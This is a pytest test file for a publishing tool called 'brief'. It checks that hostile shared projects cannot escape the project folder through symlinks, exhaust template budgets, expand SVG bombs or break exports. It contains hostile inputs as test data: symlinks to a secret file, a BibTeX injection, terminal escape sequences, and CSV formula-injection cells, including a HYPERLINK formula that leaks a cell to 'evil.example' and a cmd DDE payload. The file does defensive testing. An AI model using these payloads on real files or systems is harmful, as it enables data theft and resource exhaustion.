"""A layout, project or article received from someone else cannot make brief read or write
outside the project, run past its limits, or fail as a bug.

The cases are those of a second attack on publishing, exports and the template budget: links
planted in a shared project, templates that grow values faster than the budget saw, SVG
drawings that expand when drawn, steps that ran long between two deadline checks, files that
spreadsheets and reference managers evaluate, and input that ended in exit 3. Resource cases
run in a child process under the memory and time cap of ``test_hostile``.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import REPO, SITE_URL, child_layout, make_site_project, publish_site
from tests.test_hostile import capped, failed_in_one_line

SECRET = "TOP-SECRET-brief-test"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the project that nothing brief writes may contain."""
    outside = tmp_path / "outside"
    outside.mkdir()
    path = outside / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A copy of the bundled project in a folder of its own (the secret sits beside it)."""
    project = tmp_path / "project"
    project.mkdir()
    shutil.copytree(REPO / "briefs", project / "briefs")
    shutil.copytree(REPO / "sources", project / "sources")
    (project / "layouts").mkdir()
    return project


def brief(project: Path, *args: str, seconds: float = 120) -> subprocess.CompletedProcess:
    return capped(project, *args, seconds=seconds)


def everything_under(folder: Path) -> bytes:
    return b"".join(p.read_bytes() for p in folder.rglob("*") if p.is_file())


# --- reading: nothing from outside the project -------------------------------------------


def test_publish_does_not_copy_a_layout_asset_that_links_out(home: Path, secret: Path) -> None:
    layout = child_layout(home, "evil")
    (layout / "site" / "assets").mkdir(parents=True)
    (layout / "site" / "assets" / "passwd.css").symlink_to(secret)
    line = failed_in_one_line(brief(home, "publish", "--layout", "evil", "-o", "site"))
    assert line.startswith("layouts/evil/site/assets/passwd.css: ") and "outside" in line
    site = home / "site"
    assert not site.exists() or SECRET.encode() not in everything_under(site)


@pytest.mark.parametrize("target", ["secret", "/proc/self/pagemap"])
def test_a_layout_file_linking_out_is_refused_not_hashed(
    home: Path, secret: Path, target: str
) -> None:
    layout = child_layout(home, "evil")
    (layout / "notes.txt").symlink_to(secret if target == "secret" else target)
    line = failed_in_one_line(brief(home, "render", "--layout", "evil", seconds=60))
    assert line.startswith("layouts/evil/notes.txt: is a link that leads outside the project")
    output = home / "output"
    assert not output.exists() or b"secret.txt" not in everything_under(output)


def test_a_manifest_cannot_name_an_input_outside_the_project(home: Path) -> None:
    assert brief(home, "render").returncode == 0
    manifest = home / "output" / "manifest.json"
    data = json.loads(manifest.read_text(encoding="utf-8"))
    entry = data["pdfs"]["belarus-sco-tianjin.pdf"]
    entry["inputs"]["../../../../../../proc/self/pagemap"] = "0" * 64
    entry["inputs"]["/etc/hostname"] = "0" * 64
    manifest.write_text(json.dumps(data), encoding="utf-8")
    started = time.monotonic()
    done = brief(home, "publish", "-o", "site", seconds=60)
    assert done.returncode == 0, done.stderr
    assert "1 rendered" in done.stderr  # the edited entry names nothing: out of date
    assert time.monotonic() - started < 30


def test_a_manifest_that_is_not_brief_s_does_not_break_publishing(home: Path) -> None:
    assert brief(home, "render").returncode == 0
    manifest = home / "output" / "manifest.json"
    data = json.loads(manifest.read_text(encoding="utf-8"))
    data["pdfs"]["belarus-sco-tianjin.pdf"]["pages"] = "abc"
    manifest.write_text(json.dumps(data), encoding="utf-8")
    done = brief(home, "publish", "-o", "site")
    assert done.returncode == 0, done.stderr
    assert "1 rendered" in done.stderr


def test_a_foreign_file_passed_off_as_the_pdf_is_an_error(home: Path) -> None:
    import hashlib

    assert brief(home, "render").returncode == 0
    pdf = home / "output" / "belarus-sco-tianjin.pdf"
    pdf.write_bytes(b"not a PDF at all\n")
    manifest = home / "output" / "manifest.json"
    data = json.loads(manifest.read_text(encoding="utf-8"))
    data["pdfs"][pdf.name]["sha256"] = hashlib.sha256(pdf.read_bytes()).hexdigest()
    manifest.write_text(json.dumps(data), encoding="utf-8")
    line = failed_in_one_line(brief(home, "publish", "-o", "site"))
    assert line.startswith("output/belarus-sco-tianjin.pdf: cannot draw")


# --- writing: never through a link out of the project ----------------------------------


def outside_folder(tmp_path: Path, name: str) -> Path:
    folder = tmp_path / name
    folder.mkdir()
    (folder / "index.html").write_text("theirs", encoding="utf-8")
    return folder


def test_publish_does_not_write_through_a_site_link(home: Path, tmp_path: Path) -> None:
    elsewhere = outside_folder(tmp_path, "elsewhere")
    (home / "site").symlink_to(elsewhere, target_is_directory=True)
    line = failed_in_one_line(brief(home, "publish", "-o", "site"))
    assert line.startswith("site: is a link that leads outside the project folder")
    assert sorted(p.name for p in elsewhere.iterdir()) == ["index.html"]
    assert (elsewhere / "index.html").read_text(encoding="utf-8") == "theirs"


def test_publish_writes_to_a_folder_named_outside_the_project(home: Path, tmp_path: Path) -> None:
    """The user's own choice of folder, named directly, is theirs to make."""
    chosen = tmp_path / "www"
    done = brief(home, "publish", "-o", str(chosen))
    assert done.returncode == 0, done.stderr
    assert (chosen / "index.html").is_file()


@pytest.mark.parametrize("command", ["render", "preview"])
def test_output_link_out_of_the_project_is_refused(
    home: Path, tmp_path: Path, command: str
) -> None:
    assert brief(home, "render").returncode == 0
    elsewhere = tmp_path / "elsewhere"
    shutil.move(home / "output", elsewhere)
    (home / "output").symlink_to(elsewhere, target_is_directory=True)
    before = sorted(p.name for p in elsewhere.iterdir())
    args = ["render"] if command == "render" else ["preview", "output/belarus-sco-tianjin.pdf"]
    line = failed_in_one_line(brief(home, *args))
    assert line.startswith("output: is a link that leads outside the project folder")
    assert sorted(p.name for p in elsewhere.iterdir()) == before


def test_new_does_not_write_through_links(home: Path, tmp_path: Path) -> None:
    dangling = tmp_path / "created-by-brief.json"
    (home / "briefs" / "brief-spec.schema.json").symlink_to(dangling)
    line = failed_in_one_line(brief(home, "new", "sources/belarus-sco-tianjin.txt", "--name", "x"))
    assert line.startswith("briefs/brief-spec.schema.json: is a link that leads outside")
    assert not dangling.exists() and not (home / "briefs" / "x.toml").exists()

    elsewhere = tmp_path / "their-briefs"
    elsewhere.mkdir()
    shutil.rmtree(home / "briefs")
    (home / "briefs").symlink_to(elsewhere, target_is_directory=True)
    line = failed_in_one_line(brief(home, "new", "sources/belarus-sco-tianjin.txt", "--name", "x"))
    assert line.startswith("briefs: is a link that leads outside the project folder")
    assert list(elsewhere.iterdir()) == []


def test_layout_new_does_not_write_through_a_layouts_link(home: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "their-layouts"
    elsewhere.mkdir()
    (home / "layouts").rmdir()
    (home / "layouts").symlink_to(elsewhere, target_is_directory=True)
    line = failed_in_one_line(brief(home, "layout", "new", "mine"))
    assert line.startswith("layouts: is a link that leads outside the project folder")
    assert list(elsewhere.iterdir()) == []


def test_no_lock_file_is_made_and_a_planted_one_is_not_followed(home: Path, tmp_path: Path) -> None:
    """The output folder itself is locked while the manifest is written: no lock file is
    left beside the PDFs, and one planted as a link to elsewhere is never opened."""
    (home / "output").mkdir()
    planted = tmp_path / "planted.lock"
    (home / "output" / ".manifest.json.lock").symlink_to(planted)
    assert brief(home, "render").returncode == 0
    assert not planted.exists()
    assert sorted(p.name for p in (home / "output").iterdir() if not p.is_symlink()) == [
        "belarus-sco-tianjin.bib", "belarus-sco-tianjin.csl.json", "belarus-sco-tianjin.pdf",
        "belarus-sco-tianjin.ris", "manifest.json",
    ]  # fmt: skip


def test_watch_does_not_follow_a_layout_link_to_the_root(home: Path) -> None:
    layout = child_layout(home, "evil")
    (layout / "link").symlink_to("/", target_is_directory=True)
    process = subprocess.Popen(
        [sys.executable, "-m", "brief", "watch", "--layout", "evil"],
        cwd=home,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO / "src")},
    )
    try:
        deadline = time.monotonic() + 60
        while not (home / "output" / "belarus-sco-tianjin.pdf").exists():
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline
            time.sleep(0.1)
        time.sleep(1.0)
        watches = _inotify_watches(process.pid)
        assert watches is None or watches < 100, watches
    finally:
        process.terminate()
        _, err = process.communicate(timeout=30)
    assert "Traceback" not in err


def _inotify_watches(pid: int) -> int | None:
    """How many inotify watches the process holds (Linux), or None where that is unknown."""
    folder = Path(f"/proc/{pid}/fdinfo")
    if not folder.is_dir():
        return None
    count = 0
    for entry in folder.iterdir():
        try:
            count += entry.read_text().count("inotify wd:")
        except OSError:
            continue
    return count


# --- templates: budgets that cannot be passed, data-only namespaces, exit 1 ---------------


def story_layout(project: Path, body: str, style: str = "") -> None:
    child_layout(
        project,
        "evil",
        style,
        '{% extends "default/brief.xml.j2" %}{% block summary %}' + body + "{% endblock %}",
    )


@pytest.mark.parametrize(
    ("body", "style", "expected"),
    [
        ('{% set s="x"*90000000 %}{{ ([s]*50)|names|length }}', "", "filter 'names'"),
        ('{% set s="x"*5000 %}{{ ([s]*20000)|names|length }}', "", "filter 'names'"),
        ('{{ t("key_points", a="y"*2000)|length }}',
         '[texts]\nkey_points = "' + "{a}" * 600_000 + '"\n', "characters"),
        ('{{ "%(a)09999999999d" % dict(a=1) }}', "", "format width"),
        ('{% set ns = namespace(l=[]) %}{% set s = "<"*30000000 %}'
         "{% for i in range(100) %}{% set ns.l = ns.l + [s|e] %}{% endfor %}", "", "filter 'e'"),
        ('{% set s = "x"*19000000 %}{% set ns = namespace(l=[]) %}'
         "{% for i in range(100) %}{% set ns.l = ns.l + [s|e] %}{% endfor %}", "", "in all"),
    ],
    ids=["names-huge", "names-many", "t-pattern", "format-key-width", "escape-large", "kept"],
)  # fmt: skip
def test_template_budget_cannot_be_passed(home: Path, body: str, style: str, expected: str) -> None:
    story_layout(home, body, style)
    started = time.monotonic()
    line = failed_in_one_line(brief(home, "render", "--layout", "evil", "--limit", "seconds=20"))
    assert line.startswith("layouts/evil/brief.xml.j2:") and expected in line, line
    assert time.monotonic() - started < 60


@pytest.mark.parametrize(
    "body",
    [
        "{{ namespace(__html__=brief.date.ctime) }}",
        "{{ namespace(__html__=brief.title.strip) }}",
        "{% set ns = namespace(a=1) %}{% set ns.__html__ = brief.title.strip %}{{ ns }}",
        "{{ namespace(dict(__html__=brief.title.strip)) }}",
        "{{ namespace(x=brief.title.strip).x }}",
    ],
)
def test_a_namespace_holds_data_only(home: Path, body: str) -> None:
    story_layout(home, body)
    line = failed_in_one_line(brief(home, "render", "--layout", "evil"))
    assert line.startswith("layouts/evil/brief.xml.j2:") and "namespace" in line


SITE_TEMPLATE = '{% extends "default/site/brief.html.j2" %}{% block content %}BODY{% endblock %}'


@pytest.mark.parametrize(
    "body",
    [
        "{{ 1/0 }}",
        "{{ range(30000000)|list|length }}",
        "{% for i in range(30000000) %}{% endfor %}",
        "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        '{{ "abc"|truncate(-5) }}',
    ],
)
def test_a_failing_site_template_is_exit_1_and_leaves_the_site_whole(home: Path, body: str) -> None:
    assert brief(home, "publish", "-o", "site").returncode == 0
    before = {p: p.read_bytes() for p in (home / "site").rglob("*") if p.is_file()}
    layout = child_layout(home, "evil")
    (layout / "site").mkdir()
    (layout / "site" / "brief.html.j2").write_text(
        SITE_TEMPLATE.replace("BODY", body), encoding="utf-8"
    )
    line = failed_in_one_line(brief(home, "publish", "--layout", "evil", "-o", "site"))
    assert line.startswith("layouts/evil/site/brief.html.j2:1: template")
    after = {p: p.read_bytes() for p in (home / "site").rglob("*") if p.is_file()}
    assert after == before


def test_a_failing_story_filter_is_exit_1(home: Path) -> None:
    story_layout(home, "{{ brief.title|truncate(-5) }}")
    line = failed_in_one_line(brief(home, "render", "--layout", "evil"))
    assert line.startswith("layouts/evil/brief.xml.j2:")


# Pieces of Jinja2's syntax a template is made of, joined at random: whatever comes of them
# is a page or the layout's error, never a bug in brief.
_PIECES = [
    "{{ brief.title }}", "{{ brief.sections|length }}", "{{ 1/0 }}", "{{ x }}",
    "{% for s in brief.sections %}", "{% endfor %}", "{% if brief.title %}", "{% endif %}",
    "{{ brief.title|truncate(-1) }}", '{{ "a"*3 }}', "{{ range(5)|list }}", "{{ (1,2)[5] }}",
    "{{ brief.title|int }}", "{{ brief.authors|names }}", '{{ t("key_points") }}',
    '{{ t("nope") }}', "{{ brief.date|longdate }}", "{{ brief.title.upper() }}",
    "{{ namespace(a=1).a }}", "{{ brief.__class__ }}", "{% set y = 2 %}{{ y ** 2000 }}",
    "{{ [1]|map('upper')|list }}", "{{ brief|attr('title') }}", "{{ 'x'|replace('', 'yy') }}",
    "{{ cycler(1,2).next() }}", "{{ joiner()() }}", "{{ {}|dictsort }}", "{{ {}.a.b }}",
    "{% macro m(a) %}{{ a }}{% endmacro %}{{ m() }}", "{{ m }}", "{{ loop }}",
    "{% for i in range(3) %}{{ loop.cycle(1) }}{% endfor %}", "{{ brief.title % 3 }}",
    "{{ '%s' % brief.title }}", "{{ '{}'|format(1) }}", "{{ brief.title|round }}",
    "{{ [3,1]|sort(attribute='x') }}", "{{ brief.sections|groupby('x') }}", "{{ -1|abs }}",
    "{{ ''|first }}", "{{ [] | max }}", "{{ 10**400 * 10**400 }}", "{{ '' ~ brief }}",
]  # fmt: skip


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(pieces=st.lists(st.sampled_from(_PIECES), min_size=1, max_size=6))
def test_any_story_or_site_template_is_a_page_or_the_layout_s_error(
    pieces: list[str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    from brief.core.errors import LayoutError
    from brief.layout import sandbox
    from brief.layout.budget import Budget
    from brief.layout.catalogue import Messages, speaking
    from brief.layout.loader import environment, load_layout, template_failure

    brief_model = _bundled_brief()
    if not _FUZZ:
        project = tmp_path_factory.mktemp("fuzz")
        child_layout(project, "fuzz")
        (project / "layouts" / "fuzz" / "site").mkdir()
        _FUZZ.append((project, load_layout("fuzz", project)))
    project, layout = _FUZZ[0]
    env = environment(layout)
    source = "".join(pieces)
    for where in ("", "site/"):  # as a story template and as a web page's
        name = f"{where}fuzz-{len(_FUZZ)}.j2"
        _FUZZ.append(name)
        (layout.folder / name).write_text(source, encoding="utf-8")
        try:
            template = env.get_template(name)
            with speaking(Messages("en")):
                sandbox.render(template, Budget(steps=100_000), brief=brief_model)
        except Exception as exc:
            failure = template_failure(exc, layout.folder / name)
            assert isinstance(failure, LayoutError), (source, repr(exc))


_FUZZ: list = []


_BRIEF: list = []


def _bundled_brief():
    if not _BRIEF:
        from brief.api import load
        from tests.conftest import BUNDLED_SPEC

        _BRIEF.append(load(BUNDLED_SPEC, project_dir=REPO)[0])
    return _BRIEF[0]


# --- the deadline holds inside a long step ------------------------------------------------


def test_a_long_paragraph_stops_at_its_time_limit(home: Path) -> None:
    words = " ".join("word" for _ in range(400_000))
    (home / "sources" / "big.md").write_text(f"# Big\n\n{words}\n", encoding="utf-8")
    started = time.monotonic()
    line = failed_in_one_line(brief(home, "render", "sources/big.md", "--limit", "seconds=2"))
    assert line.startswith("sources/big.md: stopped") and "2 s" in line
    assert time.monotonic() - started < 15


def test_front_matter_of_many_authors_stops_at_its_time_limit(home: Path) -> None:
    authors = ", ".join(f'"Author {i}"' for i in range(150_000))
    text = f'+++\ntitle = "Many"\nauthors = [{authors}]\n+++\n\n# One\n\nA sentence here.\n'
    (home / "sources" / "many.md").write_text(text, encoding="utf-8")
    started = time.monotonic()
    done = brief(home, "render", "sources/many.md", "--limit", "seconds=2")
    assert time.monotonic() - started < 20
    if done.returncode:  # on a fast machine it may finish in time
        assert failed_in_one_line(done).startswith("sources/many.md: stopped")


def test_a_batch_goes_on_after_a_brief_that_runs_out_of_time(home: Path) -> None:
    # ten seconds: the bundled brief's second on a loaded machine stays far inside it, the
    # 400,000 words far outside (a minute and more)
    words = " ".join("word" for _ in range(400_000))
    (home / "sources" / "big.md").write_text(f"# Big\n\n{words}\n", encoding="utf-8")
    shutil.copy(home / "sources" / "belarus-sco-tianjin.txt", home / "sources" / "other.txt")
    done = brief(
        home, "render", "briefs/belarus-sco-tianjin.toml", "sources/big.md",
        "sources/other.txt", "-o", "out", "--jobs", "1", "--limit", "seconds=10",
    )  # fmt: skip
    assert done.returncode == 1
    assert "sources/big.md: stopped" in done.stderr
    assert "2 rendered" in done.stderr and "1 failed" in done.stderr
    assert {p.name for p in (home / "out").glob("*.pdf")} == {
        "belarus-sco-tianjin.pdf",
        "other.pdf",
    }


def test_the_watchdog_interrupts_and_takes_nothing_back_late() -> None:
    from brief.core.watchdog import Overrun, watchdog

    started = time.monotonic()
    with pytest.raises(Overrun) as stopped, watchdog(0.2):
        while True:
            pass
    assert "0.2 s" in stopped.value.problems[0].message
    assert time.monotonic() - started < 5
    for _ in range(20):  # a block that ends as the time runs out raises nothing afterwards
        with watchdog(0.0):
            time.sleep(0.0)
    time.sleep(1.5)


# --- SVG drawings are held to the limits of what they draw -----------------------------------


def fake_png(width: int, height: int) -> bytes:
    """A PNG whose header announces *width* × *height* pixels (its data is one empty row):
    the limits are judged from the header, before anything is decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0"))


def svg_article(project: Path, svg: str) -> str:
    (project / "sources" / "drawing.svg").write_text(svg, encoding="utf-8")
    (project / "sources" / "drawing.md").write_text(
        "# Drawing\n\nA sentence before the drawing.\n\n![What the drawing shows](drawing.svg)\n",
        encoding="utf-8",
    )
    return "sources/drawing.md"


@pytest.mark.parametrize("count", [1, 4])
def test_svg_embedded_pictures_count_against_the_megapixel_limit(home: Path, count: int) -> None:
    picture = base64.b64encode(fake_png(4000, 4000)).decode()  # 16 megapixels each
    images = "".join(
        f'<image x="0" y="0" width="10" height="10" href="data:image/png;base64,{picture}"/>'
        for _ in range(count)
    )
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">{images}</svg>'
    done = brief(home, "render", svg_article(home, svg), "--limit", "image-megapixels=50")
    if count == 1:
        assert "megapixel" not in done.stderr
    else:
        assert done.returncode == 0, done.stderr
        assert "embeds pictures of more than 50 megapixels together" in done.stderr
    assert "DecompressionBombWarning" not in done.stderr and "Traceback" not in done.stderr


def test_svg_use_references_count_against_the_element_limit(home: Path) -> None:
    rects = "".join(f'<rect x="{i}" y="0" width="1" height="1"/>' for i in range(2000))
    uses = "".join('<use href="#g"/>' for _ in range(500))
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        f'<defs><g id="g">{rects}</g></defs>{uses}</svg>'
    )
    started = time.monotonic()
    done = brief(home, "render", svg_article(home, svg))
    assert done.returncode == 0, done.stderr
    assert "draws over 100,000 elements once its <use> references are followed" in done.stderr
    assert time.monotonic() - started < 30


def test_svg_use_cycles_are_counted_once() -> None:
    from brief.compose.pictures import check_svg

    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>'
    )
    check_svg(svg, 10, 50)


# --- files others open ------------------------------------------------------------------


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd",
    "-2+3",
]
PLAIN = ["-12.5", "+3", "-1,234.5", "-", "8.4 per cent"]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(home: Path) -> None:
    from pypdf import PdfReader

    rows = "\n".join(f"| {cell.replace('|', '&#124;')} | {i} |" for i, cell in
                     enumerate(FORMULAS + PLAIN))  # fmt: skip
    (home / "sources" / "csv.md").write_text(
        f"# Data\n\nA sentence before the table.\n\n| Cell | N |\n|---|---|\n{rows}\n",
        encoding="utf-8",
    )
    done = brief(home, "publish", "sources/csv.md", "-o", "site")
    assert done.returncode == 0, done.stderr
    attached = PdfReader(home / "output" / "csv.pdf").attachments
    (name,) = [n for n in attached if n.endswith(".csv")]
    published = next((home / "site").rglob("*-table-1.csv")).read_bytes()
    for data in (attached[name][0], published):
        cells = [row[0] for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))][1:]
        assert cells == ["'" + f for f in FORMULAS] + PLAIN


def test_a_url_cannot_add_bibtex_fields(home: Path) -> None:
    spec = home / "briefs" / "belarus-sco-tianjin.toml"
    text = spec.read_text(encoding="utf-8")
    spec.write_text(
        'url = "https://example.org/x},note={INJECTED},howpublished={x"\n' + text,
        encoding="utf-8",
    )
    line = failed_in_one_line(brief(home, "render"))
    assert line.startswith("briefs/belarus-sco-tianjin.toml:url: must be a web address")


def test_control_characters_in_a_title_leave_feed_and_citations_readable(home: Path) -> None:
    spec = home / "briefs" / "belarus-sco-tianjin.toml"
    text = spec.read_text(encoding="utf-8")
    lines = [line for line in text.splitlines() if not line.startswith("title =")]
    title = 'title = "A \\u001b[31mred\\u0007 \\u202etitle"'
    spec.write_text("\n".join([title, *lines]) + "\n", encoding="utf-8")
    done = brief(home, "publish", "-o", "site", "--base-url", SITE_URL)
    assert done.returncode == 0, done.stderr
    ET.parse(home / "site" / "feed.xml")
    ET.parse(home / "site" / "sitemap.xml")
    for suffix in (".bib", ".ris"):
        cited = (home / "output" / f"belarus-sco-tianjin{suffix}").read_text(encoding="utf-8")
        assert "\x1b" not in cited and "\x07" not in cited and "red" in cited


# --- bad input is exit 1 -------------------------------------------------------------------


DIGITS = "1" * 5000
SOURCE = 'source = "../sources/belarus-sco-tianjin.txt"\n'


@pytest.mark.parametrize(
    ("where", "content", "expected"),
    [
        ("sources/digits.md", f"+++\nx = {DIGITS}\n+++\n\n# A\n\nText here.\n",
         "sources/digits.md:1: front matter is not valid TOML: a number too long to read"),
        ("sources/digits.md", f"---\nx: {DIGITS}\n---\n\n# A\n\nText here.\n",
         "sources/digits.md:1: front matter is not valid YAML: a number too long to read"),
        ("sources/digits.md", f"+++\nx = 0x{'f' * 4000}\n+++\n\n# A\n\nText here.\n",
         "sources/digits.md:1: front matter: the number at 'x' is too large"),
        ("briefs/x.toml", SOURCE + f'number = {DIGITS}\n',
         "briefs/x.toml: invalid TOML: a number too long to read"),
        ("briefs/x.toml", SOURCE + f'title = 0x{"f" * 4000}\n',
         "briefs/x.toml:title: the number is too large"),
        ("briefs/x.toml", SOURCE + 'output = "a\\u0000b.pdf"\n',
         "briefs/x.toml:output: must be a file name without control characters"),
        ("briefs/x.toml", SOURCE + 'output = "a\\nb.pdf"\n',
         "briefs/x.toml:output: must be a file name without control characters"),
        ("briefs/x.toml", SOURCE + 'output = "CON.pdf"\n',
         "briefs/x.toml:output: is a name Windows keeps for a device"),
        ("briefs/x.toml", SOURCE + ''
         "[[tables]]\nnumber = 1\nwidths = [1e308, 1]\n",
         "briefs/x.toml:tables[1].widths[1]: '1e+308' is not a length"),
    ],
)  # fmt: skip
def test_bad_input_is_one_line_and_exit_1(
    home: Path, where: str, content: str, expected: str
) -> None:
    (home / where).write_text(content, encoding="utf-8")
    line = failed_in_one_line(brief(home, "render", where))
    assert line.startswith(expected), line


def test_a_style_with_a_huge_number_is_exit_1(home: Path) -> None:
    child_layout(home, "evil", f"x = {DIGITS}\n")
    line = failed_in_one_line(brief(home, "render", "--layout", "evil"))
    assert line == "layouts/evil/style.toml: invalid TOML: a number too long to read"


def test_values_too_small_to_chart_are_a_spec_error(home: Path) -> None:
    tiny = "0." + "0" * 320 + "1"
    (home / "sources" / "tiny.md").write_text(
        f"# Tiny\n\nA sentence here.\n\n| Year | Value |\n|---|---|\n| 2020 | {tiny} |\n"
        f"| 2021 | {tiny} |\n",
        encoding="utf-8",
    )
    (home / "briefs" / "tiny.toml").write_text(
        'source = "../sources/tiny.md"\n[[charts]]\ntable = 1\nkind = "bar"\n', encoding="utf-8"
    )
    done = brief(home, "render", "briefs/tiny.toml")
    assert done.returncode == 1 and "internal error" not in done.stderr, done.stderr


def test_preview_of_poster_sized_pages_is_drawn_smaller(home: Path) -> None:
    from reportlab.pdfgen import canvas

    pdf = home / "poster.pdf"
    drawing = canvas.Canvas(str(pdf), pagesize=(14400, 14400))
    for _ in range(3):
        drawing.drawString(100, 100, "poster")
        drawing.showPage()
    drawing.save()
    done = brief(home, "preview", "poster.pdf")
    assert done.returncode == 0, done.stderr
    from PIL import Image

    for picture in (home / "output").glob("poster-page-*.png"):
        with Image.open(picture) as image:
            assert image.width * image.height <= 16_000_000


def test_preview_prints_file_names_escaped(home: Path) -> None:
    assert brief(home, "render").returncode == 0
    odd = home / "output" / "a\x1b]0;pwned\x07.pdf"
    shutil.copy(home / "output" / "belarus-sco-tianjin.pdf", odd)
    done = brief(home, "preview", str(odd.relative_to(home)), "--pages", "1")
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout + done.stderr and "\\x1b" in done.stdout


def test_republishing_keeps_the_pictures_it_drew(tmp_path: Path) -> None:
    project = make_site_project(tmp_path)
    code, _, err = publish_site(project, "-o", "site")
    assert code == 0, err
    cards = {p: p.stat().st_mtime_ns for p in (project / "site").rglob("card.png")}
    marker = json.loads((project / "site" / ".brief-site.json").read_text(encoding="utf-8"))
    assert set(marker["pictures"]) == {f"briefs/{p.parent.name}/" for p in cards}
    code, _, err = publish_site(project, "-o", "site")
    assert code == 0, err
    assert {p: p.stat().st_mtime_ns for p in cards} == cards


def test_a_worker_stuck_where_no_interruption_reaches_is_replaced(monkeypatch) -> None:
    """``time.sleep`` stands for a C library that does not return: the watchdog's exception
    waits for it, so the supervising process kills the worker, reports the brief, and gives
    the briefs that worker had been given ahead to a new one."""
    from brief import batch
    from brief.api import RenderResult
    from brief.core.limits import Limits

    def fake_render(path: Path, **options) -> RenderResult:
        if path.name == "stuck.md":
            time.sleep(30)
        return RenderResult(path, path.with_suffix(".pdf"), 1, 1, 0.0)

    monkeypatch.setattr(batch, "render_brief", fake_render)
    paths = [Path(f"{name}.md") for name in ("first", "stuck", "after", "last")]
    started = time.monotonic()
    outcomes = {
        o.path.name: o for o in batch.render_many(paths, None, 1, {"limits": Limits(seconds=0.3)})
    }
    assert time.monotonic() - started < 20
    assert {name for name, o in outcomes.items() if o.result is not None} == {
        "first.md",
        "after.md",
        "last.md",
    }
    stuck = outcomes["stuck.md"]
    assert stuck.result is None and stuck.bug is None
    assert stuck.problems[0].message.startswith("stopped: the brief took longer than 0.3 s")


def test_a_process_stuck_where_no_thread_can_act_is_ended_with_the_message() -> None:
    """A C call that holds Python's interpreter lock (here ``time.sleep`` stands for one that
    does not return: the watchdog's exception waits for it) keeps every thread waiting, so
    another process ends the command with the limit's message, a few seconds late."""
    code = (
        "import time\n"
        "from brief.core.watchdog import ended_when_stuck, watchdog\n"
        "with ended_when_stuck(0.2, 'x.md: stopped: the brief took longer than 0.2 s'), "
        "watchdog(0.2):\n    time.sleep(60)\n"
    )
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60,
        env={**os.environ, "PYTHONPATH": str(REPO / "src")},
    )  # fmt: skip
    assert time.monotonic() - started < 15
    assert done.returncode == -9
    assert done.stderr == "x.md: stopped: the brief took longer than 0.2 s\n"


def test_nothing_is_left_running_after_a_brief_in_time() -> None:
    from brief.core.watchdog import ended_when_stuck

    with ended_when_stuck(30, "never printed"):
        pass
    time.sleep(0.2)
    children = Path(f"/proc/{os.getpid()}/task/{os.getpid()}/children")
    if children.exists():
        assert children.read_text().split() == []


def test_the_watchdog_shell_spares_a_process_that_is_not_its_parent() -> None:
    """A brief killed before its block ended leaves its watchdog shell asleep; when it wakes,
    the process number it was given may belong to another process by then: it is spared."""
    import subprocess
    import sys

    from brief.core.watchdog import WATCHER

    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        done = subprocess.run(
            ["sh", "-c", WATCHER, "sh", "0.1", str(other.pid), "stopped"],
            capture_output=True,
            text=True,
            timeout=10,
        )
        assert done.stderr == ""  # it did not report a stop
        assert other.poll() is None  # and the other process runs on
    finally:
        other.kill()
        other.wait()
